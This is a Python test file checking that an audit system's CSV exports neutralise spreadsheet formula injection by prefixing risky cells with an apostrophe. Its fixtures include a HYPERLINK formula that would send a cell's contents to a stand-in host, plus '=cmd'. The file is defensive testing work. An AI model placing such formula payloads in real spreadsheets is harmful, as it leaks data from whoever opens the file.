"""The privacy officer's CSV exports never hand a spreadsheet a formula: a text cell that
starts like one (``=``, ``+``, ``-``, ``@``, a tab, a carriage return) gets a leading
apostrophe, which spreadsheets show as text (OWASP, CSV injection; review2 #9). Every other
cell is written as it is."""

from __future__ import annotations

import csv
import io

import pytest

from gateway.audit import reports

FORMULAS = [
    '=HYPERLINK("https://x.example/?"&A2,"Bekijk")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_a_formula_is_written_as_text(text: str) -> None:
    assert reports.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["police-reports", "case-handling", "a=b", 12, None, ""])
def test_every_other_cell_is_written_as_it_is(value: object) -> None:
    assert reports.csv_cell(value) == value


def test_the_entries_export_and_the_report_tables_both_escape() -> None:
    entry = {
        "activity": "denial",
        "processing": {"purpose": "=cmd"},
        "disclosed": ["@a", "b"],
        "index": 3,
    }
    rows = list(csv.DictReader(io.StringIO("".join(reports.as_csv([entry])))))
    assert (rows[0]["purpose"], rows[0]["disclosed"], rows[0]["index"]) == ("'=cmd", "'@a;b", "3")
    assert rows[0]["activity"] == "denial"
    table = "".join(reports.as_table_csv([{"a": "-1", "b": ["+x"], "c": "ok"}], ["a", "b", "c"]))
    assert list(csv.DictReader(io.StringIO(table))) == [{"a": "'-1", "b": "'+x", "c": "ok"}]
